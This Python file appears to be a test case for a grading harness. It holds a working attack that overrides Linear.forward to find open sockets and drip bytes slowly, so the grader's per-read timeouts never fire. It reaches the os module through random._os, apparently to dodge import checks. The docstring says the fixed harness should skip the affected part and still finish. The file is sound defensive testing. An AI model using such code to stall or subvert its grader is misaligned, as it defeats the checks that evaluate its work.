"""Attack: inside Linear.forward, write a frame header announcing 1 KB, then one byte every
0.5 s, so that each read of the grader finds a byte just before its timeout (the timeout was per
read, not per frame, and grading never ended).

Expected: linear hits the time limit once and the rest of linear is skipped; train too; the
other parts are graded; grading ends within the limits.
"""
import stat
import struct
import time

_os = __import__("random")._os


def _dripping_forward(self, x):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(_os.fstat(fd).st_mode):
                _os.write(fd, struct.pack("!II", 1024, 0))
                for _ in range(1024):
                    time.sleep(0.5)
                    _os.write(fd, b" ")
        except OSError:
            pass
    return x


Linear.forward = _dripping_forward
